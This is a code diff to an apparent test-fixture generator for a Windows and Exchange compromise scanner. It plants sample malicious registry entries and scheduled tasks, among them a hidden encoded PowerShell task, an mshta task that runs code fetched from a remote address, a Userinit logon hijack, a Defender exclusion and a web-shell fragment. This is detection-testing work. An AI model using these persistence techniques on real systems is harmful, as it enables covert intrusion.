@@ -227,6 +227,40 @@ def programs(bad, good):
         good[place] = configuration.program(name="run.dll", exports=["DllGetVersion"], signed=True)
 
 
+PRODUCT_TASK = ("C:\\Program Files\\V\\v.exe", "/ua")
+IN_CACHE = ({}, {})  # what the registries know of tasks
+
+
+def tasks(bad, good):
+    for known in IN_CACHE:
+        known.clear()
+    for name, action, title in (
+            ("Encoded", ("powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
+             "Scheduled task with encoded or hidden commands"),
+            ("Fetch", ("mshta.exe", "http://203.0.113.7/a.hta"), "Scheduled task that runs code from the network"),
+            ("Winnet", ("C:\\Program Files\\V\\v.exe", ""), "Scheduled task under a name that intruders used"),
+            ("Data", ("C:\\ProgramData\\a.exe", ""), "Scheduled task of the system that runs a program from a writable place"),
+            ("Dell", ("C:\\ProgramData\\Dell\\UpdateService\\update.exe", ""),
+             "Scheduled task that runs a product's program from a writable place"),
+            ("Updater", ("C:\\Windows\\Temp\\a.exe", ""), "Scheduled task that runs a program from an odd place"),
+            ("Winner", PRODUCT_TASK, "Hidden scheduled task that is not of Windows"),
+            ("Left", PRODUCT_TASK, "File of a scheduled task that the registry does not know")):
+        bad[TASKS + name] = configuration.task(*action, hidden=name == "Winner")
+        twin = name.replace("Winnet", "Vendor")
+        good[TASKS + twin] = configuration.task(*PRODUCT_TASK)
+        IN_CACHE[0][name], IN_CACHE[1][twin] = action, PRODUCT_TASK
+        thing("task", name, TASKS + name, title)
+    del IN_CACHE[0]["Left"]
+    for name, in_cache in (("Lost", PRODUCT_TASK), ("Unlisted", PRODUCT_TASK), ("Other", ("C:\\Windows\\Temp\\b.exe", "-k"))):
+        for files, known, action in ((bad, IN_CACHE[0], in_cache), (good, IN_CACHE[1], PRODUCT_TASK)):
+            files[TASKS + name] = configuration.task(*PRODUCT_TASK)
+            known[name] = action
+    IN_CACHE[0]["Alone"] = PRODUCT_TASK
+    IN_CACHE[0]["Microsoft\\Alone"] = PRODUCT_TASK
+    bad[TASKS + "Microsoft/Windows/Defrag"] = good[TASKS + "Microsoft/Windows/Defrag"] = configuration.task("defrag.exe")
+    IN_CACHE[0]["Microsoft\\Windows\\Defrag"] = IN_CACHE[1]["Microsoft\\Windows\\Defrag"] = ("defrag.exe", "")
+
+
 def settings(bad, good):
     bad[CONFIG] = configuration.application_host(
         vdir='<virtualDirectory path="/x" physicalPath="C:\\ProgramData\\COM1\\x" />',
@@ -277,23 +311,7 @@ def settings(bad, good):
     thing("transport agent", "configured", agents, "Transport agent from a place where none belongs")
     thing("transport agent", "of another product", agents, "Transport agent of another product")
     thing("transport agent", "unknown", agents, "Transport agent that Exchange does not ship")
-    for name, planted, title in (
-            ("Encoded", configuration.task("powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
-             "Scheduled task with encoded or hidden commands"),
-            ("Fetch", configuration.task("mshta.exe", "http://203.0.113.7/a.hta"),
-             "Scheduled task that runs code from the network"),
-            ("Winnet", configuration.task("C:\\Program Files\\V\\v.exe"), "Scheduled task under a name that intruders used"),
-            ("Data", configuration.task("C:\\ProgramData\\a.exe"),
-             "Scheduled task of the system that runs a program from a writable place"),
-            ("Dell", configuration.task("C:\\ProgramData\\Dell\\UpdateService\\update.exe"),
-             "Scheduled task that runs a product's program from a writable place"),
-            ("Updater", configuration.task("C:\\Windows\\Temp\\a.exe"),
-             "Scheduled task that runs a program from an odd place"),
-            ("Winner", configuration.task("C:\\Program Files\\V\\v.exe", hidden=True),
-             "Hidden scheduled task that is not of Windows")):
-        bad[TASKS + name] = planted
-        good[TASKS + name.replace("Winnet", "Vendor")] = configuration.task("C:\\Program Files\\V\\v.exe", "/ua")
-        thing("task", name, TASKS + name, title)
+    tasks(bad, good)
     detections(bad, good)
     detection = "C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/" \
                 "03020100-0504-0706-0809-0A0B0C0D0E0F"
@@ -389,9 +407,28 @@ OF_SOFTWARE = [
     "Defender leaves out what it should look at"]
 
 
-def software_hive(winlogon, exclusion, certificate, hidden, of_nt=(), of_windows=(), of_microsoft=()):
-    tree = Key("Tree", Value("SD", SD), Key("Microsoft", Value("SD", SD)), Key(
-        "Updater", Value("Id", "{00000000-0000-0000-0000-000000000001}"), *([] if hidden else [Value("SD", SD)])))
+def task_actions(command, arguments):
+    """What a task runs, as the scheduler's cache has it. Source: docs/formats/registry.md, "Tasks"""
+    def text(s):
+        return struct.pack("<I", 2 * len(s)) + s.encode("utf-16-le")
+    return b"\3\0" + text("Author") + b"\x66\x66" + text("") + text(command) + text(arguments) + text("") + b"\0\0"
+
+
+def task_cache(tasks, bad):
+    """tasks: {name: (command, arguments)} of the folder of tasks."""
+    tree, entries = [Value("SD", SD), Key("Microsoft", Value("SD", SD))], []
+    for i, (name, (command, arguments)) in enumerate(sorted(tasks.items())):
+        number = "{%08X-0000-0000-0000-000000000001}" % i
+        lost, hidden = bad and name == "Lost", bad and name == "Updater"
+        if not lost:
+            tree.append(Key(name, Value("Id", number), Value("Index", 0 if bad and name == "Unlisted" else 3),
+                            *([] if hidden else [Value("SD", SD)])))
+        entries.append(Key(number, Value("Path", "\\" + name), Value("Actions", task_actions(command, arguments)),
+                           Value("DynamicInfo", struct.pack("<IQQIIQ", 3, 132592212050000000, 132592230000000000, 0, 0, 0))))
+    return Key("TaskCache", Key("Tree", *tree), Key("Tasks", *entries))
+
+
+def software_hive(winlogon, exclusion, certificate, tasks, bad, of_nt=(), of_windows=(), of_microsoft=()):
     request = [Key("SystemCertificates", Key("REQUEST", Key("Certificates", Key(
         "0A1B", Value("Blob", certificate)))))]
     setup = Key("Setup", Value("MsiProductMajor", 15), Value("MsiProductMinor", 1), Value("MsiBuildMajor", 2106),
@@ -400,7 +437,7 @@ def software_hive(winlogon, exclusion, certificate, hidden, of_nt=(), of_windows
         "Microsoft", *request, Key("ExchangeServer", Key("v15", setup)),
         Key("Windows Defender", Key("Exclusions", Key("Paths", *([Value(exclusion, 0)] if exclusion else [])))),
         Key("Windows NT", Key("CurrentVersion", Key("Winlogon", Value("Userinit", winlogon)),
-                              Key("Schedule", Key("TaskCache", tree)), *of_nt)),
+                              Key("Schedule", task_cache(tasks, bad)), *of_nt)),
         Key("Windows", Key("CurrentVersion", *of_windows)), *of_microsoft)))
 
 
@@ -421,13 +458,18 @@ def registry(bad, good):
     good[HIVES + "SYSTEM"] = system_hive("GOOD01", "%SystemRoot%\\System32\\svchost.exe -k netsvcs")
     thing("service", "in the registry", HIVES + "SYSTEM", "Program in an open place is started by Windows")
     bad[HIVES + "SOFTWARE"] = software_hive(USERINIT + "C:\\ProgramData\\x.exe,", "C:\\inetpub",
-                                            bytes(40) + b'<%@ Page Language="JScript"%><script runat="server">', True,
+                                            bytes(40) + b'<%@ Page Language="JScript"%><script runat="server">', IN_CACHE[0], True,
                                             *planted_software())
     for title in OF_SOFTWARE:
         thing("logging" if "Channel" in title else "service", title, HIVES + "SOFTWARE", title)
-    good[HIVES + "SOFTWARE"] = software_hive(USERINIT, "", bytes(40) + b"CN=mail.example.com", False)
+    good[HIVES + "SOFTWARE"] = software_hive(USERINIT, "", bytes(40) + b"CN=mail.example.com", IN_CACHE[1], False)
     for kind, what, title in (
             ("task", "hidden in TaskCache", "Scheduled task without a security descriptor"),
+            ("task", "not in the scheduler's lists", "Scheduled task that is kept out of the scheduler's lists"),
+            ("task", "without a file", "Scheduled task of the registry without a file"),
+            ("task", "of Windows, without a file", "Scheduled task of Windows in the registry without a file"),
+            ("task", "in no folder", "Scheduled task that lies in no folder of the registry"),
+            ("task", "that runs something else than its file says", "Scheduled task that runs something else than its file says"),
             ("service", "logon", "Logon runs something besides what Windows installs"),
             ("web shell", "pending request for a certificate", "Request for a certificate that holds script")):
         thing(kind, what, HIVES + "SOFTWARE", title)
